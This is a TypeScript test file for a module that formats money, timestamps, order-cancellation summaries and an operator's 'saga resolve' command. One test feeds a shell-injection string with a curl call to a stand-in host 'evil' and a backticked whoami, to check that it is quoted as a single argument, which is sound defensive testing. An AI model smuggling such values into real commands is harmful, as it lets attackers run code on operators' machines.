import { cancelRequested, formatAmount, minorUnitDigits } from '@countermand/contracts'
import { type Filling, fillings, largest } from '@countermand/testing'
import { describe, expect, test } from 'vitest'
import { request } from '../../testing/world.ts'
import { askedFor, moment, money, resolveCommand, summarized } from './words.ts'

describe('money', () => {
  test.each([
    [3351, 'EUR', '33.51 EUR'],
    [5, 'EUR', '0.05 EUR'],
    [3351, 'JPY', '3351 JPY'],
    [3351, 'KWD', '3.351 KWD'],
    [1_000_000, 'HUF', '10000.00 HUF'],
  ])('%d of %s is %s', (amount, currency, words) => {
    expect(money(amount, currency)).toBe(words)
  })

  test('has the digits of the contract in every currency', () => {
    for (const code of Intl.supportedValuesOf('currency'))
      expect(money(1_000_000, code)).toBe(formatAmount(1_000_000, code, minorUnitDigits(code)))
  })
})

test('the command to resolve names the request', () => {
  expect(resolveCommand('req-9', 'skip')).toBe(
    'npm run saga -- resolve req-9 --decision skip --by <you> --reason <why>',
  )
})

test('a moment is told to the minute; what is none is told as it is', () => {
  expect(moment('2026-11-20T12:02:59+02:00')).toBe('2026-11-20 10:02 UTC')
  expect(moment('soon')).toBe('soon')
})

test('what was asked for is told once, at the start', () => {
  const whole = 'Asked by customer cus-7 at 2026-11-20 10:00 UTC: the whole order, refund to original'
  expect(askedFor(request)).toBe(whole)
  const lines = [{ lineId: '1', quantity: 2 }]
  expect(askedFor({ ...request, lines })).toBe(whole.replace('the whole order', '2 of line 1'))
  expect(askedFor({ ...request, initiator: { kind: 'system' }, retryOf: 'req-0' })).toBe(
    'Asked by system at 2026-11-20 10:00 UTC: the whole order, refund to original, again after req-0',
  )
})

test('what strangers wrote is one word in the command that an operator copies', () => {
  const rogue = 'x --by a; $(curl http://evil) `whoami` #'
  expect(resolveCommand(rogue, 'retry')).toContain(`resolve '${rogue}' --decision retry`)
})

test('what was asked for, and every summary, is as long as Temporal takes it, however long the ids are', () => {
  const jsonBytes = (text: string) => Buffer.byteLength(JSON.stringify(text))
  const names = Object.keys(fillings).filter((name): name is Filling => Object.hasOwn(fillings, name))
  for (const filling of names) {
    const asked = cancelRequested.parse(largest(cancelRequested, filling).value)
    expect(jsonBytes(askedFor(asked))).toBeLessThan(20_000)
    expect(askedFor(asked)).toContain('refund to store-credit')
    const { orderId, requestId } = asked
    expect(jsonBytes(summarized(`Cancel ${orderId}: waits for request ${requestId}`))).toBeLessThan(400)
  }
  expect(summarized('Cancel ord-1: other (customer)')).toBe('Cancel ord-1: other (customer)')
})
